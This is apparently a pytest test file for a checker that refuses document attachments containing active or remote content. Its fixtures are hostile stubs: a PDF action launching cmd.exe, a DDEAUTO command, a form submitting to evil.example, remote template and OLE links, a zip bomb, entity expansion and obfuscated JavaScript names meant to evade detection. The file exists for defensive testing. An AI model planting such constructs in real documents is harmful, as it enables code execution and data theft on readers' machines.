"""Attachments that would run something on a reader's machine are refused, and what hides from readers is said."""

from __future__ import annotations

import time
import zlib

import pytest
from pypdf.actions import JavaScript

from generator.check import check_content
from generator.check.active_content import active_content
from generator.problems import Severity
from tests.support.attachments import OFFICE, packed, pdf
from tests.support.content import NOTICE, SmallContent

_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, target: str = "https://evil.example/x", mode: str = 'TargetMode="External"') -> dict[str, bytes]:
    """Return parts with one relationship of a kind."""
    one = f'<Relationship Id="r1" Type="{_RELATIONSHIPS}/{kind}" Target="{target}" {mode}/>'
    text = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{one}</Relationships>'
    return {**OFFICE, "word/_rels/settings.xml.rels": text.encode()}


def _objects(text: bytes, filtered: bytes | None = None) -> bytes:
    """Return a PDF with an object stream, as most programs write them since 1.5."""
    data = zlib.compress(text) if filtered is None else filtered
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(data)
    return b"%PDF-1.7\n5 0 obj\n" + head + b"\nstream\r\n" + data + b"\nendstream\nendobj\n%%EOF\n"


def _encrypted() -> bytes:
    return packed(OFFICE).replace(b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00")


REFUSED: dict[str, tuple[str, bytes, str]] = {
    "a script": ("pdf", pdf(lambda writer: writer.add_open_action(JavaScript("app.alert(1)"))), "attachment-active"),
    "a script by another spelling": ("pdf", b"%PDF-1.7 << /S /J#61vaScript >>", "attachment-active"),
    "a script among packed objects": ("pdf", _objects(b"1 0 << /S /JavaScript /JS (x) >>"), "attachment-active"),
    "a short name among packed objects": ("pdf", _objects(b"1 0 << /S /Rendition /JS (x) >>"), "attachment-active"),
    "a script in what looks like a stream": (
        "pdf",
        b"%PDF-1.7\n% stream\n1 0 obj << /S /JavaScript >> endobj\n% endstream\n",
        "attachment-active",
    ),
    "a program": ("pdf", b"%PDF-1.7 << /OpenAction << /S /Launch /F (cmd.exe) >> >>", "attachment-active"),
    "sending": ("pdf", b"%PDF-1.7 << /S /SubmitForm /F (https://evil.example) >>", "attachment-active"),
    "multimedia": ("pdf", b"%PDF-1.7 << /Subtype /RichMedia >>", "attachment-active"),
    "a remote template": ("docx", packed(related("attachedTemplate")), "attachment-remote"),
    "a remote picture": ("docx", packed(related("image", "file://10.0.0.1/x.png")), "attachment-remote"),
    "a remote object": ("xlsx", packed(related("oleObject", "mhtml:https://evil.example!x")), "attachment-remote"),
    "a remote workbook": ("xlsx", packed(related("externalLinkPath", "file:///D:/a.xlsx")), "attachment-remote"),
    "in UTF-16": (
        "docx",
        packed({**OFFICE, "a.rels": related("frame")["word/_rels/settings.xml.rels"].decode().encode("utf-16")}),
        "attachment-remote",
    ),
    "macros": ("docx", packed({**OFFICE, "word/vbaProject.bin": b"x"}), "attachment-active"),
    "controls": ("docx", packed({**OFFICE, "word/activeX/activeX1.xml": b"<x/>"}), "attachment-active"),
    "DDE": (
        "docx",
        packed({**OFFICE, "word/document.xml": b"<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"}),
        "attachment-active",
    ),
    "DDE of a table": (
        "xlsx",
        packed({**OFFICE, "xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}),
        "attachment-active",
    ),
    "a password": ("docx", _encrypted(), "attachment-content"),
    "no zip file": ("ofd", b"PK\x03\x04OFD.xml", "attachment-content"),
    "half a file": ("docx", packed(OFFICE)[:-30], "attachment-content"),
    "no XML": ("docx", packed({**OFFICE, "word/_rels/a.rels": b"<Relationships"}), "attachment-content"),
    "a bomb": ("docx", packed({**OFFICE, "a.rels": bytes(65_000_000)}), "attachment-content"),
    "entities": (
        "docx",
        packed({**OFFICE, "a.rels": b'<!DOCTYPE a [<!ENTITY b "b"><!ENTITY c "' + b"&b;" * 9 + b'">]><a>&d;</a>'}),
        "attachment-content",
    ),
}
WARNED: dict[str, tuple[str, bytes, str]] = {
    "encryption": ("pdf", pdf(lambda writer: writer.encrypt("", "owner", algorithm="RC4-128")), "attachment-encrypted"),
    "another file inside": ("pdf", pdf(lambda writer: writer.add_attachment("a.txt", b"x")), "attachment-embeds"),
    "objects that cannot be read": ("pdf", _objects(b"", b"broken"), "attachment-opaque"),
    "a dynamic form": ("pdf", b"%PDF-1.7 << /AcroForm << /XFA 5 0 R >> >>", "attachment-form"),
    "an object of another program": ("docx", packed({**OFFICE, "word/embeddings/ole.bin": b"x"}), "attachment-embeds"),
}
FINE = {
    "a plain PDF": ("pdf", pdf()),
    "a PDF that opens at a page": (
        "pdf",
        b"%PDF-1.7 << /OpenAction [3 0 R /FitH null] >> << /S /URI /URI (https://a) >>",
    ),
    "packed objects": ("pdf", _objects(b"1 0 << /Type /Catalog >>")),
    "a name in what is compressed": ("pdf", b"%PDF-1.7 << >>\nstream\n\x00/JS \x01/XFA \nendstream"),
    "a longer name": ("pdf", b"%PDF-1.7 << /JSON 1 /Launcher 2 >>"),
    "a plain document": ("docx", packed(OFFICE)),
    "a link to click": ("docx", packed(related("hyperlink"))),
    "a part of its own": ("docx", packed(related("image", "media/image1.png", ""))),
    "a table with a chart": ("xlsx", packed({**OFFICE, "xl/embeddings/Microsoft_Excel_Sheet1.xlsx": b"x"})),
    "a picture": ("png", b"\x89PNG\r\n\x1a\n/JavaScript"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_would_run_or_fetch_is_refused(name: str) -> None:
    kind, data, code = REFUSED[name]
    (found,) = active_content(kind, data)
    assert (found.code, found.severity) == (code, Severity.ERROR)


@pytest.mark.parametrize("name", WARNED)
def test_what_readers_do_not_see_is_pointed_out(name: str) -> None:
    kind, data, code = WARNED[name]
    (found,) = active_content(kind, data)
    assert (found.code, found.severity) == (code, Severity.WARNING)


@pytest.mark.parametrize("name", FINE)
def test_whatever_only_shows_itself_may_stand(name: str) -> None:
    assert [*active_content(*FINE[name])] == []


def test_a_check_looks_into_the_whole_file(small_content: SmallContent) -> None:
    """Beyond its head, and whatever the file is called."""
    long = pdf().replace(b"%%EOF", b"% " + b"x" * 5000 + b"\n<< /S /JavaScript >>\n%%EOF")
    files = {
        "notices/2025/yi.yml": f"{NOTICE}附件:\n  - 文件: 台账.pdf\n  - 文件: 清单.docx\n",
        "notices/2025/yi/台账.pdf": long,
        "notices/2025/yi/清单.docx": packed(related("attachedTemplate")),
    }
    problems = [one for one in check_content(small_content(files) / "content").problems if "attachment" in one.code]
    assert [(one.code, one.span.line if one.span else 0) for one in problems] == [
        ("attachment-active", NOTICE.count("\n") + 2),
        ("attachment-remote", NOTICE.count("\n") + 3),
    ]
    assert problems[0].found == "“台账.pdf”里面有程序（JavaScript）"
    assert "attachedTemplate：https://evil.example/x" in problems[1].found


def test_hostile_files_take_time_in_proportion() -> None:
    """Ten times as much takes about ten times as long, not a hundred: nothing is read again and again."""

    def seconds(count: int) -> float:
        hostile = (b"%PDF-1.7 " + b"stream\nendstream" * count, b"%PDF" + b"stream" * count, b"%PDF" + b"/#4a" * count)
        start = time.process_time()
        for data in hostile:
            assert [*active_content("pdf", data)] == []
        return time.process_time() - start

    seconds(1000)
    assert seconds(200_000) < 30 * max(seconds(20_000), 0.05)
